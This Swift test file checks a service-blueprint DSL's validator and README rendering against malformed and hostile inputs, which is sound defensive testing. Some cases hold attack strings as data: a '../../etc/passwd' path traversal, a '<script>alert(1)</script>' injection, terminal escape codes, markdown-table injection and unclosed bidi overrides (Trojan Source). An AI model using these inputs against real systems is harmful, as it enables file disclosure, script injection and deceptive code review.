                    Service("worker", fileID: f, line: 11) {
                        Port("http", 8080)
                        Health(liveness: "/healthz", readiness: "/readyz")
                        DependsOn("api", fileID: f, line: 12)
                    }
                }, service: { DependsOn("worker", fileID: f, line: 10) })
            cases.append(
                .legal(
                    "dependency-cycle", system,
                    warnings: [
                        .warning("dependencies", "the dependencies form a cycle: api -> worker -> api", at: f, line: 10)
                    ], ReportText(place: .cell(table: "Services", row: "api", column: "depends on"), expected: "worker")
                ))
        }
        do {
            let f = file("dependency-cycle-of-three")
            let system = blueprint(
                f,
                system: {
                    Service("b", fileID: f, line: 11) {
                        Port("http", 8080)
                        Health(liveness: "/healthz", readiness: "/readyz")
                        DependsOn("c", fileID: f, line: 12)
                    }
                    Service("c", fileID: f, line: 13) {
                        Port("http", 8080)
                        Health(liveness: "/healthz", readiness: "/readyz")
                        DependsOn("api", fileID: f, line: 14)
                    }
                }, service: { DependsOn("b", fileID: f, line: 10) })
            cases.append(
                .legal(
                    "dependency-cycle-of-three", system,
                    warnings: [
                        .warning("dependencies", "api -> b -> c -> api", at: f, line: 10)
                    ]))
        }
        do {
            let f = file("dependency-on-itself")
            cases.append(
                .refused(
                    "dependency-on-itself", blueprint(f, service: { DependsOn("api", fileID: f, line: 10) }),
                    .error("dependencies", "the service depends on itself", at: f, line: 10)))
        }
        do {
            let f = file("dependency-on-an-unknown-service")
            cases.append(
                .refused(
                    "dependency-on-an-unknown-service",
                    blueprint(f, service: { DependsOn("payments", fileID: f, line: 10) }),
                    .error("dependencies", "depends on 'payments', which the system does not declare", at: f, line: 10))
            )
        }
        // The DSL cannot name an unknown service in an environment override (an Override sits inside its service);
        // what can go wrong is the environment it names.
        do {
            let f = file("override-naming-an-unknown-environment")
            let system = blueprint(f, service: { Override("prdo", fileID: f, line: 10) { Replicas(3) } })
            cases.append(
                .refused(
                    "override-naming-an-unknown-environment", system,
                    .error("override", "names environment 'prdo', which the system does not declare", at: f, line: 10)))
        }
        func refusedSLO(
            _ id: String, _ field: String, _ fragment: String,
            @ListBuilder<any SLOComponent> _ body: (String) -> [any SLOComponent]
        ) {
            let f = file(id)
            let components = body(f)
            cases.append(
                .refused(
                    id, blueprint(f, service: { SLO("checkout", fileID: f, line: 9) { components } }),
                    .error(field, fragment, at: f, line: 10)))
        }
        refusedSLO("slo-at-100-percent", "slo[checkout].availability", "the objective 100 % is outside (0, 100) %") {
            f in
            Availability(.percent(100), fileID: f, line: 10)
        }
        refusedSLO("slo-at-0-percent", "slo[checkout].availability", "the objective 0 % is outside (0, 100) %") { f in
            Availability(.percent(0), fileID: f, line: 10)
        }
        refusedSLO("slo-above-100-percent", "slo[checkout].availability", "is outside (0, 100) %") { f in
            Availability(.percent(100.0001), fileID: f, line: 10)
        }
        refusedSLO("latency-slo-at-100-percent", "slo[checkout].latency", "the objective 100 % is outside (0, 100) %") {
            f in
            Latency(.percent(100), under: .milliseconds(500), fileID: f, line: 10)
        }
        refusedSLO("latency-slo-not-a-number", "slo[checkout].latency", "is outside (0, 100) %") { f in
            Latency(.percent(.nan), under: .milliseconds(500), fileID: f, line: 10)
        }
        refusedSLO("latency-threshold-absurd", "slo[checkout].latency.threshold", "is not a bucket") { f in
            Latency(.percent(99), under: .seconds(Int64.max), fileID: f, line: 10)
        }
        do {
            let f = file("slo-window-zero-days")
            let system = blueprint(
                f,
                service: {
                    SLO("checkout", fileID: f, line: 10) {
                        Availability(.percent(99.9))
                        Window(.days(0))
                    }
                })
            cases.append(
                .refused(
                    "slo-window-zero-days", system,
                    .error("slo[checkout].window", "the window 0d is outside 1d-365d", at: f, line: 10)))
        }
        do {
            let f = file("slo-matcher-label-with-a-dash")
            let system = blueprint(
                f,
                service: {
                    SLO("checkout", matching: ["http-method": "POST"], fileID: f, line: 10) {
                        Availability(.percent(99.9))
                    }
                })
            cases.append(
                .refused(
                    "slo-matcher-label-with-a-dash", system,
                    .error("slo[checkout].matchers", "is not a Prometheus label name", at: f, line: 10)))
        }
        do {
            let f = file("canary-at-100-percent")
            let system = blueprint(
                f,
                system: {
                    Deploy(to: "qa", fileID: f, line: 9) {
                        Host("qa.hostile.example.com")
                        Canary(.percent(100), fileID: f, line: 10)
                    }
                })
            cases.append(
                .refused("canary-at-100-percent", system, .error("canary", "is outside (0, 100) %", at: f, line: 10)))
        }
        do {
            // Fixed here: 'api' has a canary in qa, and its canary Deployment and Service are named 'api-canary'.
            let f = file("service-named-like-a-canary")
            let system = blueprint(
                f,
                system: {
                    Deploy(to: "qa", fileID: f, line: 9) {
                        Host("qa.hostile.example.com")
                        Canary(.percent(10), fileID: f, line: 9)
                    }
                    Service("api-canary", fileID: f, line: 10) {
                        Port("http", 8080)
                        Health(liveness: "/healthz", readiness: "/readyz")
                    }
                })
            cases.append(
                .refused(
                    "service-named-like-a-canary", system,
                    .error("name", "has the name of the canary of 'api' in environment 'qa'", at: f, line: 10)))
        }
        do {
            let f = file("rollout-that-cannot-progress")
            let system = blueprint(
                f,
                system: {
                    Deploy(to: "qa", fileID: f, line: 9) {
                        Host("qa.hostile.example.com")
                        Rollout(maxSurge: .percent(0), maxUnavailable: .percent(0), fileID: f, line: 10)
                    }
                })
            cases.append(
                .refused(
                    "rollout-that-cannot-progress", system, .error("rollout", "can never progress", at: f, line: 10)))
        }
        do {
            let f = file("config-file-outside-its-folder")
            let system = blueprint(
                f,
                service: {
                    ConfigFile("../../etc/passwd", mountedIn: "/etc/api", contents: "x\n", fileID: f, line: 10)
                })
            cases.append(
                .refused(
                    "config-file-outside-its-folder", system,
                    .error("configFiles[../../etc/passwd]", "is not a valid config file name", at: f, line: 10)))
        }
        do {
            let f = file("config-file-mounted-on-root")
            let system = blueprint(
                f, service: { ConfigFile("app.yaml", mountedIn: "/", contents: "x\n", fileID: f, line: 10) })
            cases.append(
                .refused(
                    "config-file-mounted-on-root", system,
                    .error("configFiles[app.yaml].mountDirectory", "is not an absolute directory", at: f, line: 10)))
        }
        // Fixed here: /tmp was refused, but a mount on the binary's folder hid the binary just the same.
        refusedService(
            &cases, "config-file-mounted-over-the-binary", "configFiles[app.yaml].mountDirectory",
            "hides the service's binary /app/server"
        ) { f in
            ConfigFile("app.yaml", mountedIn: "/app", contents: "x\n", fileID: f, line: 10)
        }
        do {
            let f = file("two-systems-of-one-name")
            let first = blueprint(f)
            let second = System("hostile", fileID: f, line: 10) {
                SourceRepository("https://git.example.com/hostile", license: "Apache-2.0")
                Defaults { ImageTag("1.0.0") }
                Deploy(to: .dev)
                Service("other") { Port("http", 8080); Health(liveness: "/healthz", readiness: "/readyz") }
            }.description
            cases.append(
                HostileCase(
                    name: "two-systems-of-one-name", systems: [first, second],
                    outcome: .refused([
                        .error(
                            "name", "system 'hostile' is also declared at Hostile/two-systems-of-one-name.swift:1",
                            at: f, line: 10)
                    ])))
        }
        return cases
    }

    // MARK: - Free text: the README and labels

    static func freeText() -> [HostileCase] {
        var cases: [HostileCase] = []
        do {
            let f = file("summary-with-a-newline")
            let system = blueprint(f, system: { Summary("one\n# two") })
            cases.append(
                .refused(
                    "summary-with-a-newline", system,
                    .error("summary", "contains a control character or line break", at: f, line: 1)))
        }
        do {
            let f = file("team-with-a-newline")
            let system = blueprint(f, system: { Team("ops\n| injected |", fileID: f, line: 10) })
            cases.append(
                .refused(
                    "team-with-a-newline", system,
                    .error("team", "the team name is empty or contains a control character", at: f, line: 10)))
        }
        do {
            let f = file("rollout-owner-with-an-escape")
            let system = blueprint(
                f,
                system: {
                    Deploy(to: "qa", fileID: f, line: 9) {
                        Host("qa.hostile.example.com")
                        Rollout(owner: "ops\u{1B}[2J", fileID: f, line: 10)
                    }
                })
            cases.append(
                .refused(
                    "rollout-owner-with-an-escape", system,
                    .error("rollout.owner", "contains a control character or line break", at: f, line: 10)))
        }
        // Fixed here: a summary ending in a backslash gave a LABEL that hadolint could not parse. Each reaches the
        // image's description label exactly as written (read as the builder reads it), and hadolint passes.
        for (id, summary) in [
            ("summary-ending-in-a-backslash", #"ends with a backslash \"#),
            ("summary-with-backslashes", #"C:\path\to\"file" \\ $HOME \$PATH"#),
        ] {
            cases.append(
                .legal(
                    id, blueprint(file(id), service: { Summary(summary) }),
                    DockerfileLabel(key: "org.opencontainers.image.description", expected: summary),
                    HadolintFindsNothing()))
        }
        // Legal free text must read back the same from the README (markdown-it-py renders it).
        func legalText(_ id: String, summary: String, team: String, frequency: String, owner: String) {
            let f = file(id)
            let system = blueprint(
                f,
                system: {
                    Summary(summary)
                    Team(team, fileID: f, line: 10)
                    Deploy(to: "qa", fileID: f, line: 11) {
                        Host("qa.hostile.example.com")
                        Rollout(
                            frequency: frequency, rollback: .other(owner + " / rollback"), owner: owner, fileID: f,
                            line: 12)
                    }
                })
            cases.append(
                .legal(
                    id, system,
                    ReportText(place: .intro, expected: "\(summary). Owned by \(team). 1 services in 3 environments."),
                    ReportText(place: .cell(table: "Services", row: "api", column: "team"), expected: team),
                    ReportText(
                        place: .cell(table: "Environments", row: "qa", column: "deploy frequency"), expected: frequency),
                    ReportText(place: .cell(table: "Environments", row: "qa", column: "owner"), expected: owner),
                    ReportText(
                        place: .cell(table: "Environments", row: "qa", column: "rollback"),
                        expected: owner + " / rollback")))
        }
        legalText(
            "markdown-emphasis-and-pipes", summary: "a | b * c _d_ **e**", team: "ops | dev",
            frequency: "*weekly*", owner: "__SRE__")
        legalText(
            "markdown-code-links-and-html", summary: "see `code` and [x](https://example.com) <b>bold</b>",
            team: "<script>alert(1)</script>", frequency: "![img](x.png)", owner: "`ops`")
        // Fixed here: these started a list, a heading or a code block, or turned into another character.
        legalText(
            "markdown-block-starts", summary: "- not a list", team: "1. not a list",
            frequency: "+ plus", owner: "# not a heading")
        legalText(
            "markdown-entities-and-escapes", summary: "&amp; &lt;b&gt; &#42; \\* \\\\", team: "R&D",
            frequency: "~~struck~~", owner: "5$ & 10%")
        legalText(
            "markdown-edge-whitespace", summary: "    four spaces first", team: " padded team ",
            frequency: "\u{A0}nbsp", owner: "trailing ")
        // Balanced bidi controls stay legal (this summary held an unclosed U+202E, refused now: see below).
        legalText(
            "markdown-unicode", summary: "ünïcödé 中文 🚀 \u{202E}evil\u{202C} \u{2067}שלום\u{2069}", team: "équipe",
            frequency: "→ weekly", owner: "運用")
        // Fixed here: an unbalanced bidi control reached the README and reordered the text after it in review
        // (Trojan Source).
        do {
            let f = file("summary-with-an-unclosed-bidi-override")
            cases.append(
                .refused(
                    "summary-with-an-unclosed-bidi-override",
                    blueprint(f, system: { Summary("ünïcödé 中文 🚀 \u{202E}") }),
                    .error("summary", "U+202E RIGHT-TO-LEFT OVERRIDE at character 14 is never closed", at: f, line: 1)))
        }
        do {
            let f = file("rollout-owner-with-a-stray-pop-directional-isolate")
            let system = blueprint(
                f,
                system: {
                    Deploy(to: "qa", fileID: f, line: 9) {
                        Host("qa.hostile.example.com")
                        Rollout(owner: "sre\u{2069}", fileID: f, line: 10)
                    }
                })
            cases.append(
                .refused(
                    "rollout-owner-with-a-stray-pop-directional-isolate", system,
                    .error("rollout.owner", "U+2069 POP DIRECTIONAL ISOLATE at character 4 closes nothing", at: f, line: 10)))
        }
        return cases
    }
}
